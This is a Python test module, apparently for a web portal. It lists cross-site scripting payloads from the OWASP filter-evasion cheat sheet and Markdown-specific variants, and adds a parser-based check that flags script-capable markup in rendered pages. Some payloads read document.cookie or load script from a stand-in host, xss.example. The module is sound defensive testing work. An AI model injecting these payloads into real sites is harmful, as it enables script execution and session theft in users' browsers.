"""Cross-site scripting payloads, and a check that finds executable markup in a page.

The families of the OWASP XSS filter-evasion cheat sheet (script tags, event handlers,
``javascript:`` URLs with case, entity, whitespace and null-byte tricks, malformed tags, SVG,
style, meta refresh, frames, objects, base, comments, mutation XSS) and Markdown-specific ones
(links, images, autolinks, reference definitions, link titles, HTML inside Markdown, mentions).
Each payload would call ``alert`` or set ``window.__xss`` if it ran; ``executable_markup`` reads
the output with an HTML parser, as a browser would, and lists what could run.
"""

import html
import re

from bs4 import BeautifulSoup

# The OWASP XSS filter evasion cheat sheet, by family.
OWASP = [
    # Script tags, plain and malformed
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//xss.example/xss.js></SCRIPT>",
    '<SCRIPT/XSS SRC="http://xss.example/xss.js"></SCRIPT>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=http://xss.example/xss.js?< B >",
    "<SCRIPT SRC=//xss.example/.j>",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '"><script>window.__xss=1</script>',
    "'><script>window.__xss=1</script>",
    # Event handlers
    '<IMG SRC=x onerror="window.__xss=1">',
    "<img src=x onerror=alert(1)//",
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    "<details open ontoggle=window.__xss=1>",
    "<video><source onerror=window.__xss=1></video>",
    "<audio src=x onerror=window.__xss=1>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<input autofocus onfocus=window.__xss=1>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus x='",
    # javascript: URLs in attributes, with case, entity, whitespace and null-byte tricks
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;"
    "&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105"
    "&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040"
    "&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72"
    "&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
    '<IMG SRC=java\0script:alert("XSS")>',
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<IMG SRC=\"javascript:alert('XSS')\"",
    '<a href="javascript:window.__xss=1">click</a>',
    '<a href="&#x6A;avascript:alert(1)">click</a>',
    '<a href="javas&#99;ript:alert(1)">click</a>',
    '<a href=" javascript:alert(1)">click</a>',
    '<a href="vbscript:msgbox(1)">click</a>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<form><button formaction=javascript:alert(1)>go</button></form>",
    # data: URIs
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAv'
    'c3ZnIiBvbmxvYWQ9ImFsZXJ0KDEpIj48L3N2Zz4=" type="image/svg+xml">',
    # SVG and MathML
    "<svg/onload=window.__xss=1>",
    "<svg><script>window.__xss=1</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<math><a xlink:href="javascript:alert(1)">click</a></math>',
    # Style
    "<STYLE>@import'http://xss.example/xss.css';</STYLE>",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">x</DIV>",
    "<div style=\"width: expression(alert('XSS'));\">x</div>",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    # Meta refresh, base, frames, objects
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,'
    'PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
    '<iframe srcdoc="<script>window.__xss=1</script>"></iframe>',
    "<iframe src=http://xss.example/scriptlet.html <",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.example/scriptlet.html"></OBJECT>',
    # Comments, CDATA, XML islands, mutation XSS
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert(\'XSS\')"></B></I></XML>',
    '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">',
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>",
    "<template><script>alert(1)</script></template>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
]

# Markdown-specific payloads: what a Markdown parser or linkifier might turn into markup.
MARKDOWN = [
    "[click](javascript:window.__xss=1)",
    "[click](JaVaScRiPt:alert(1))",
    "[click](javascript&#58;alert(1))",
    "[click](javascript&colon;alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click]( javascript:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[click](java%0ascript:alert(1))",
    "[click](jav\tascript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](data:text/html,<script>alert(1)</script>)",
    '[click](https://example.org "title\\" onmouseover=\\"alert(1)")',
    '[click](https://example.org" onmouseover="alert(1))',
    "[<img src=x onerror=window.__xss=1>](https://example.org)",
    "[a][x]\n\n[x]: javascript:alert(1)",
    '[a]\n\n[a]: javascript:alert(1) "title"',
    "![x](javascript:alert(1))",
    '![x](x" onerror="alert(1))',
    '![x](/media/a.png" onerror="window.__xss=1)',
    '![x"onerror="window.__xss=1](/media/a.png)',
    '![x](/media/a.png "t\\" onerror=\\"window.__xss=1")',
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](/media/../../evil.svg)",
    "<javascript:alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "<vbscript:alert(1)>",
    "javascript:alert(1)",
    'www.example.org/"onmouseover="alert(1)',
    "https://example.org/<script>alert(1)</script>",
    '<div onclick="alert(1)">html in markdown</div>',
    "*<img src=x onerror=window.__xss=1>*",
    "**<script>window.__xss=1</script>**",
    "`<script>alert(1)</script>` and <script>alert(1)</script>",
    "| a |\n|---|\n| <script>window.__xss=1</script> |",
    "> quote <img src=x onerror=window.__xss=1>",
    "> @x [wrote](javascript:alert(1)):",
    '@"><script>alert(1)</script>',
    '@a" onmouseover="alert(1)',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "# <img src=x onerror=window.__xss=1>",
    "```html\n<script>alert(1)</script>\n```",
    "{{ 7|add:7 }} {% debug %}",
]

ALL = OWASP + MARKDOWN

# Short payloads for one-line fields (titles, names, tags): quote and tag breakers.
SHORT = [
    "<script>window.__xss=1</script>",
    '"><img src=x onerror=window.__xss=1>',
    "'><svg/onload=window.__xss=1>",
    "</title><script>alert(1)</script>",
    '" autofocus onfocus="window.__xss=1',
    "javascript:alert(1)",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "{{ request }} {% debug %}",
]

URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "data",
    "background",
    "poster",
    "srcdoc",
    "xlink:href",
    "lowsrc",
    "dynsrc",
    "ping",
}
FORBIDDEN_TAGS = {
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "base",
    "style",
    "meta",
    "svg",
    "math",
    "template",
    "xml",
}
BAD_SCHEME = re.compile(r"^(?:javascript|vbscript|data|livescript):", re.IGNORECASE)
# Browsers ignore ASCII whitespace and control characters inside a URL's scheme.
URL_NOISE = re.compile(r"[\x00-\x20]+")


def executable_markup(page: str, *, allowed_scripts: str = "/static/") -> list[str]:
    """Return what in *page* could run script, one line each; [] when nothing can.

    Scripts are allowed only from *allowed_scripts* (the portal's own files); everything else
    counts: script elements, event-handler attributes, ``javascript:``/``data:`` URLs, frames,
    objects, SVG, styles, meta refresh and ``<base>``.
    """
    soup = BeautifulSoup(page, "html.parser")
    problems = []
    for element in soup.find_all(True):
        name = element.name.lower()
        if name == "script" and not str(element.get("src", "")).startswith(allowed_scripts):
            problems.append(f"<script>: {str(element)[:80]}")
        if name in FORBIDDEN_TAGS and not (name == "meta" and _harmless_meta(element)):
            problems.append(f"<{name}>: {str(element)[:80]}")
        if name == "link" and element.find_parent("body") is not None:
            problems.append(f"<link> in the body: {str(element)[:80]}")
        for attribute, value in element.attrs.items():
            attribute = attribute.lower()
            value = " ".join(value) if isinstance(value, list) else str(value)
            if attribute.startswith("on"):
                problems.append(f"{attribute} on <{name}>: {value[:60]}")
            elif attribute == "style" and re.search(r"url\(|expression|@import", value, re.I):
                problems.append(f"style on <{name}>: {value[:60]}")
            elif attribute in URL_ATTRIBUTES and BAD_SCHEME.match(
                URL_NOISE.sub("", html.unescape(value))
            ):
                problems.append(f"{attribute} on <{name}>: {value[:60]}")
    return problems


def _harmless_meta(element) -> bool:
    return element.find_parent("head") is not None and not element.get("http-equiv")
